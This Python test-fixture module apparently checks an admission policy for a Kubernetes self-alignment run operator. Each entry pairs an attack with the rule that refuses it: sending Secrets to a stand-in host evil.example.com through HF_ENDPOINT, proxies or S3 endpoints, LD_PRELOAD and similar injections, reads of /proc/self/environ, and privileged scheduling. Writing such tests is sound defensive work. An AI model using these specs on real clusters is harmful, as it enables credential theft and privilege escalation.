"""What an attacker who may create runs tries, and what a run of the lists looks like.

The values under `LISTS` are allowed in the namespace `TEAM`. The namespace `NAMESPACE` has the
chart's default lists, and the namespace `LARGE` has the longest lists.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

NAMESPACE = "attacks"
TEAM = "attacks-team"
LARGE = "attacks-large"
EVIL = "http://evil.example.com:18777"
HUB = "https://hub.example.com"

LISTS = {
    "serviceAccounts": ["default", "runner"],
    "imagePrefixes": ["registry.example.com/team"],
    "env": ["TEAM_*"],
    "envSources": ["WANDB_API_KEY=secret/wandb/key", "TEAM_MODE=configMap/team/mode"],
    "destinations": [
        "s3=https://s3.example.com",
        "hf=https://huggingface.co",
        *(f"{secret}={HUB}" for secret in ("s3", "hf", "wandb", "PodIdentity")),
    ],
    "imagePullSecrets": ["registry"],
    "configMaps": ["prompts-*"],
    "claims": ["models"],
    "podLabels": ["team", "app.kubernetes.io/part-of=alignment"],
    "podAnnotations": ["prometheus.io/*"],
    "tolerations": ["nvidia.com/gpu", "dedicated=team"],
    "priorityClasses": ["batch"],
    "runtimeClasses": ["nvidia"],
    "schedulers": ["volcano"],
    "resources": ["cpu", "memory", "nvidia.com/*"],
    "queueLabels": ["kueue.x-k8s.io/queue-name=team"],
    "permissions": ["CodeExecution"],
}


def run_document(name: str = "run", **spec: Any) -> dict[str, Any]:
    required = {"recipe": "ISheep", "iterations": 1, "model": {"storageUri": "hf://org/name"}}
    return {
        "apiVersion": "isheep.dev/v1alpha1",
        "kind": "SelfAlignmentRun",
        "metadata": {"name": name},
        "spec": required | spec,
    }


def pool(**fields: Any) -> dict[str, Any]:
    return {"compute": {"inference": fields}}


def variable(name: str, value: str) -> dict[str, Any]:
    return pool(env=[{"name": name, "value": value}])


def from_secret(name: str, secret: str, key: str) -> dict[str, Any]:
    source = {"secretKeyRef": {"name": secret, "key": key}}
    return {"name": name, "valueFrom": source}


def s3(secret: str | None = "s3", **fields: Any) -> dict[str, Any]:
    reference = {} if secret is None else {"secretRef": {"name": secret}}
    return {"storage": {"s3": {"bucket": "bucket", **reference, **fields}}}


def model(uri: str = "hf://org/name", **fields: Any) -> dict[str, Any]:
    return {"model": {"storageUri": uri, **fields}}


def near(kind: str, when: str, **term: Any) -> dict[str, Any]:
    topology = {"topologyKey": "kubernetes.io/hostname", **term}
    if when == "preferred":
        topology = {"weight": 1, "podAffinityTerm": topology}
    return pool(affinity={kind: {f"{when}DuringSchedulingIgnoredDuringExecution": [topology]}})


def benchmark(uri: str) -> dict[str, Any]:
    benchmarks = [{"name": "b", "storageUri": uri}]
    return {"curation": {"decontamination": {"benchmarks": benchmarks}}}


def evaluated(uri: str, **fields: Any) -> dict[str, Any]:
    benchmarks = [{"name": "b", "task": "ifeval", "storageUri": uri}]
    return {"evaluation": {"benchmarks": benchmarks, **fields}}


LISTED_RUN = run_document(
    serviceAccountName="runner",
    model={"storageUri": "pvc://models/name", "secretRef": {"name": "hf"}},
    promptsRef={"name": "prompts-a"},
    seedTasks={"configMapRef": {"name": "prompts-b", "key": "tasks"}},
    evaluation={
        "allowCodeExecution": True,
        "benchmarks": [{"name": "b", "task": "humaneval", "storageUri": "pvc://models/b"}],
    },
    **s3(endpoint="https://s3.example.com/path"),
    compute={
        "modelCache": {"claimName": "models"},
        "inference": {
            "image": "registry.example.com/team/worker:1",
            "imagePullSecrets": [{"name": "registry"}],
            "env": [
                {"name": "TEAM_COLOR", "value": "blue"},
                {"name": "NCCL_DEBUG", "value": "INFO"},
                {"name": "HF_ENDPOINT", "value": f"{HUB}/mirror"},
                from_secret("WANDB_API_KEY", "wandb", "key"),
                {
                    "name": "TEAM_MODE",
                    "valueFrom": {"configMapKeyRef": {"name": "team", "key": "mode"}},
                },
            ],
            "podLabels": {"team": "x", "app.kubernetes.io/part-of": "alignment"},
            "podAnnotations": {"prometheus.io/scrape": "true"},
            "tolerations": [
                {"key": "nvidia.com/gpu", "operator": "Exists"},
                {"key": "dedicated", "value": "team", "effect": "NoSchedule"},
            ],
            "priorityClassName": "batch",
            "runtimeClassName": "nvidia",
            "schedulerName": "volcano",
            "resources": {"limits": {"cpu": 1, "nvidia.com/mig-1g.5gb": 1}},
            **near("podAffinity", "required")["compute"]["inference"],
        },
    },
)
LISTED_RUN["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "team", "any": "label"}


@dataclass(frozen=True)
class Attempt:
    """A spec, the rule that refuses it, the attacked fields of the rule, and the shown value."""

    title: str
    rule: str
    fields: tuple[str, ...]
    shows: str
    spec: dict[str, Any]
    labels: dict[str, str] = field(default_factory=dict)
    namespace: str = NAMESPACE

    @property
    def document(self) -> dict[str, Any]:
        document = run_document(**self.spec)
        document["metadata"]["labels"] = self.labels
        if self.namespace == TEAM and "storage" not in self.spec:
            document["spec"] |= s3(endpoint="https://s3.example.com")
        return document


POOL = "spec.compute.POOL."
SHOWN = "spec.compute.inference."
MODEL = "spec.model.storageUri"
SEEDS = "spec.seedTasks.storageUri"
TEXTS = "spec.curation.decontamination.benchmarks.storageUri"
EVALUATED = "spec.evaluation.benchmarks.storageUri"
VALUE, NAME = POOL + "env.value", POOL + "env.name"
SOURCE = POOL + "env.valueFrom."
SECRET_SOURCE = (SOURCE + "secretKeyRef.name", SOURCE + "secretKeyRef.key")
MAP_SOURCE = (SOURCE + "configMapKeyRef.name", SOURCE + "configMapKeyRef.key")
STORAGE = ("spec.storage.s3.endpoint", "spec.storage.s3.secretRef.name")
TOLERATIONS = (POOL + "tolerations.key", POOL + "tolerations.value")


def _env(title: str, name: str, value: str = "/cache/evil", shows: str = "") -> Attempt:
    return Attempt(
        title, "environment", (NAME,), shows or f"{SHOWN}env: {name}", variable(name, value)
    )


def _destination(title: str, namespace: str, *env: dict[str, Any], **spec: Any) -> Attempt:
    shows = f"{SHOWN}env: {env[0]['name']} gets the credentials of"
    return Attempt(
        title, "destination", (VALUE,), shows, {**spec, **pool(env=list(env))}, namespace=namespace
    )


def _pool(title: str, rule: str, shown: str, namespace: str = NAMESPACE, **fields: Any) -> Attempt:
    """An attempt with one field of a pool, which is also the only field of the rule."""
    ((name, _),) = fields.items()
    suffix = ".name" if name == "imagePullSecrets" else ""
    return Attempt(
        title, rule, (POOL + name + suffix,), SHOWN + shown, pool(**fields), namespace=namespace
    )


def _toleration(title: str, shown: str, namespace: str = NAMESPACE, **toleration: str) -> Attempt:
    spec = pool(tolerations=[toleration])
    shows = f"{SHOWN}tolerations: {shown}"
    return Attempt(title, "tolerations", TOLERATIONS, shows, spec, namespace=namespace)


def _uri(rule: str, path: str, uri: str, spec: dict[str, Any], namespace: str = TEAM) -> Attempt:
    return Attempt(f"{path} {uri}", rule, (path,), f"{path}: {uri}", spec, namespace=namespace)


ATTEMPTS = (
    Attempt(
        "a Secret as the token of a hub of the attacker",
        "destination",
        (VALUE,),
        f"{SHOWN}env: HF_ENDPOINT gets the credentials of default-s3, prod-db",
        pool(
            env=[
                {"name": "HF_ENDPOINT", "value": EVIL},
                from_secret("HF_TOKEN", "prod-db", "password"),
            ]
        ),
    ),
    _destination("an own hub", NAMESPACE, {"name": "HF_ENDPOINT", "value": EVIL}),
    _destination("an own proxy", TEAM, {"name": "HTTPS_PROXY", "value": EVIL}),
    _destination("an own proxy in lower case", TEAM, {"name": "all_proxy", "value": EVIL}),
    _destination(
        "an own proxy without a scheme", TEAM, {"name": "HTTP_PROXY", "value": "evil.example.com"}
    ),
    _destination("an own S3 endpoint by env", TEAM, {"name": "AWS_ENDPOINT_URL", "value": EVIL}),
    _destination(
        "a host that begins with a listed one",
        TEAM,
        {"name": "HF_ENDPOINT", "value": f"{HUB}.evil.example.com"},
    ),
    _destination(
        "a listed host as the user of another host",
        TEAM,
        {"name": "HF_ENDPOINT", "value": f"{HUB}@evil.example.com"},
    ),
    _destination(
        "a listed host without encryption",
        TEAM,
        {"name": "HF_ENDPOINT", "value": HUB.replace("https", "http")},
    ),
    _destination(
        "a listed host with another port", TEAM, {"name": "HF_ENDPOINT", "value": f"{HUB}:8443"}
    ),
    _destination("an endpoint from a Secret", TEAM, from_secret("HF_ENDPOINT", "wandb", "key")),
    _destination(
        "a proxy that is listed for another Secret",
        TEAM,
        {"name": "HTTPS_PROXY", "value": "https://s3.example.com"},
        **model(secretRef={"name": "hf"}),
    ),
    Attempt(
        "the default Secret to an own endpoint",
        "storage",
        STORAGE,
        f"spec.storage.s3.endpoint with its secretRef: default-s3={EVIL}",
        s3("default-s3", endpoint=EVIL),
    ),
    Attempt(
        "a listed Secret to an own endpoint",
        "storage",
        STORAGE,
        f"spec.storage.s3.endpoint with its secretRef: s3={EVIL}",
        s3(endpoint=EVIL),
        namespace=TEAM,
    ),
    Attempt(
        "another Secret to a listed endpoint",
        "storage",
        STORAGE,
        "spec.storage.s3.endpoint with its secretRef: prod-db=https://s3.example.com",
        s3("prod-db", endpoint="https://s3.example.com"),
        namespace=TEAM,
    ),
    Attempt(
        "a listed Secret to a bucket of AWS",
        "storage",
        STORAGE,
        "spec.storage.s3.endpoint with its secretRef: s3=https://amazonaws.com",
        s3(),
        namespace=TEAM,
    ),
    Attempt(
        "the pod's identity to an own endpoint",
        "storage",
        STORAGE,
        f"spec.storage.s3.endpoint with its secretRef: PodIdentity={EVIL}",
        s3(None, endpoint=EVIL),
        namespace=TEAM,
    ),
    Attempt(
        "any Secret as a token of the hub",
        "hubToken",
        ("spec.model.secretRef.name",),
        "spec.model.secretRef: prod-db=https://huggingface.co",
        model(secretRef={"name": "prod-db"}),
        namespace=TEAM,
    ),
    _env("Python code by PYTHONPATH", "PYTHONPATH"),
    _env("Python code by PYTHONSTARTUP", "PYTHONSTARTUP"),
    _env("a library by LD_PRELOAD", "LD_PRELOAD"),
    _env("a library by LD_LIBRARY_PATH", "LD_LIBRARY_PATH"),
    _env("a library by NCCL_NET_PLUGIN", "NCCL_NET_PLUGIN"),
    _env("a library by CUDA_INJECTION64_PATH", "CUDA_INJECTION64_PATH"),
    _env("a tool by OMP_TOOL_LIBRARIES", "OMP_TOOL_LIBRARIES"),
    _env("a plugin of vLLM", "VLLM_PLUGINS", "evil"),
    _env("pickles between processes of vLLM", "VLLM_ALLOW_INSECURE_SERIALIZATION", "1"),
    _env("all GPUs of the node", "NVIDIA_VISIBLE_DEVICES", "all"),
    _env("programs by PATH", "PATH"),
    _env("certificates of the attacker", "SSL_CERT_FILE"),
    _env("another token service of AWS", "AWS_ENDPOINT_URL_STS", EVIL),
    _env("a configuration of AWS", "AWS_CONFIG_FILE"),
    _env("a token as a value", "HF_TOKEN", "x"),
    _env("a listed name in lower case", "nccl_debug", "INFO"),
    Attempt(
        "a credential in a tuning variable",
        "expansion",
        (VALUE,),
        f"{SHOWN}env: NCCL_DEBUG contains $(",
        variable("NCCL_DEBUG", "$(AWS_SECRET_ACCESS_KEY)"),
    ),
    Attempt(
        "a Secret in a tuning variable",
        "envSources",
        SECRET_SOURCE,
        f"{SHOWN}env.valueFrom: NCCL_DEBUG=secret/prod-db/password",
        pool(env=[from_secret("NCCL_DEBUG", "prod-db", "password")]),
    ),
    Attempt(
        "another key of a listed Secret",
        "envSources",
        SECRET_SOURCE,
        f"{SHOWN}env.valueFrom: WANDB_API_KEY=secret/wandb/admin",
        pool(env=[from_secret("WANDB_API_KEY", "wandb", "admin")]),
        namespace=TEAM,
    ),
    Attempt(
        "a ConfigMap in a variable",
        "envSources",
        MAP_SOURCE,
        f"{SHOWN}env.valueFrom: TEAM_MODE=configMap/other/mode",
        pool(
            env=[
                {
                    "name": "TEAM_MODE",
                    "valueFrom": {"configMapKeyRef": {"name": "other", "key": "mode"}},
                }
            ]
        ),
        namespace=TEAM,
    ),
    Attempt(
        "a service account with more rights",
        "serviceAccount",
        ("spec.serviceAccountName",),
        "spec.serviceAccountName: admin",
        {"serviceAccountName": "admin"},
    ),
    Attempt(
        "templates from any ConfigMap",
        "prompts",
        ("spec.promptsRef.name",),
        "spec.promptsRef.name: kube-root-ca.crt",
        {"promptsRef": {"name": "kube-root-ca.crt"}},
        namespace=TEAM,
    ),
    Attempt(
        "seed tasks from any ConfigMap",
        "seedTasks",
        ("spec.seedTasks.configMapRef.name",),
        "spec.seedTasks.configMapRef.name: secrets",
        {"seedTasks": {"configMapRef": {"name": "secrets", "key": "a"}}},
    ),
    Attempt(
        "a claim of somebody else as the model cache",
        "modelCache",
        ("spec.compute.modelCache.claimName",),
        "spec.compute.modelCache.claimName: backups",
        {"compute": {"modelCache": {"claimName": "backups"}}},
        namespace=TEAM,
    ),
    _uri("claims", MODEL, "pvc://backups/a", model("pvc://backups/a")),
    _uri("claims", SEEDS, "pvc://backups/a", {"seedTasks": {"storageUri": "pvc://backups/a"}}),
    _uri("claims", TEXTS, "pvc://backups/a", benchmark("pvc://backups/a")),
    _uri("claims", EVALUATED, "pvc://backups/a", evaluated("pvc://backups/a")),
    _uri("claims", MODEL, "pvc://models2/a", model("pvc://models2/a")),
    _uri("files", MODEL, "file:///etc", model("file:///etc")),
    _uri(
        "files",
        SEEDS,
        "file:///proc/self/environ",
        {"seedTasks": {"storageUri": "file:///proc/self/environ"}},
    ),
    _uri(
        "files",
        TEXTS,
        "pvc://models/../../../proc/self/environ",
        benchmark("pvc://models/../../../proc/self/environ"),
    ),
    _uri("files", EVALUATED, "pvc://models/a/..", evaluated("pvc://models/a/..")),
    Attempt(
        "code that a model writes",
        "codeExecution",
        ("spec.evaluation.allowCodeExecution",),
        "spec.evaluation.allowCodeExecution: CodeExecution",
        {"evaluation": {"allowCodeExecution": True}},
    ),
    _pool("an own image", "image", "image: evil.example.com/w", image="evil.example.com/w"),
    _pool(
        "an image next to a listed prefix",
        "image",
        "image: registry.example.com/team-2/w",
        TEAM,
        image="registry.example.com/team-2/w",
    ),
    _pool(
        "an image with the listed prefix as its tag's repository",
        "image",
        "image: registry.example.com/team:1/w",
        TEAM,
        image="registry.example.com/team:1/w",
    ),
    _pool(
        "a Secret for another registry",
        "imagePullSecrets",
        "imagePullSecrets: prod-db",
        TEAM,
        imagePullSecrets=[{"name": "prod-db"}],
    ),
    _pool("the pods of a Service", "podLabels", "podLabels: app=web", podLabels={"app": "web"}),
    _pool(
        "an empty value with an empty list", "podLabels", "podLabels: =web", podLabels={"": "web"}
    ),
    _pool(
        "another value of a listed label",
        "podLabels",
        "podLabels: app.kubernetes.io/part-of=web",
        TEAM,
        podLabels={"app.kubernetes.io/part-of": "web"},
    ),
    _pool(
        "no AppArmor",
        "podAnnotations",
        "podAnnotations: container.apparmor.security.beta.kubernetes.io/worker",
        podAnnotations={"container.apparmor.security.beta.kubernetes.io/worker": "unconfined"},
    ),
    _pool(
        "an injected identity",
        "podAnnotations",
        "podAnnotations: vault.hashicorp.com/agent-inject",
        TEAM,
        podAnnotations={"vault.hashicorp.com/agent-inject": "true"},
    ),
    _toleration("every taint", "every taint", operator="Exists"),
    _toleration("every taint by an empty key", "every taint", key="", operator="Exists"),
    _toleration(
        "nodes of the control plane",
        "node-role.kubernetes.io/control-plane",
        key="node-role.kubernetes.io/control-plane",
        operator="Exists",
    ),
    _toleration(
        "the nodes of another team", "dedicated=other", TEAM, key="dedicated", value="other"
    ),
    _toleration("the nodes of all teams", "dedicated", TEAM, key="dedicated", operator="Exists"),
    _pool(
        "a priority above the system's",
        "priorityClass",
        "priorityClassName: system-node-critical",
        priorityClassName="system-node-critical",
    ),
    _pool(
        "a runtime without a sandbox",
        "runtimeClass",
        "runtimeClassName: runc",
        TEAM,
        runtimeClassName="runc",
    ),
    _pool("another scheduler", "scheduler", "schedulerName: mine", schedulerName="mine"),
    Attempt(
        "a device of the node as a limit",
        "resources",
        (POOL + "resources.limits",),
        f"{SHOWN}resources.limits: smarter-devices/fuse",
        pool(resources={"limits": {"smarter-devices/fuse": 1}}),
    ),
    Attempt(
        "a device of the node as a request",
        "resources",
        (POOL + "resources.requests",),
        f"{SHOWN}resources.requests: devices.kubevirt.io/kvm",
        pool(resources={"requests": {"devices.kubevirt.io/kvm": 1}}),
        namespace=TEAM,
    ),
    Attempt(
        "no pods of other namespaces on its nodes",
        "otherNamespaces",
        (POOL + "affinity.podAntiAffinity",),
        f"{SHOWN}affinity.podAntiAffinity names other namespaces",
        near("podAntiAffinity", "required", namespaceSelector={}, labelSelector={}),
    ),
    Attempt(
        "pods near the pods of another namespace",
        "otherNamespaces",
        (POOL + "affinity.podAffinity",),
        f"{SHOWN}affinity.podAffinity names other namespaces",
        near("podAffinity", "preferred", namespaces=["kube-system"]),
    ),
    Attempt(
        "the quota of another queue",
        "queueLabels",
        ("metadata.labels",),
        "metadata.labels: kueue.x-k8s.io/queue-name=other",
        {},
        labels={"kueue.x-k8s.io/queue-name": "other"},
        namespace=TEAM,
    ),
    Attempt(
        "a priority in the queue",
        "queueLabels",
        ("metadata.labels",),
        "metadata.labels: kueue.x-k8s.io/priority-class=high",
        {},
        labels={"kueue.x-k8s.io/priority-class": "high"},
    ),
)
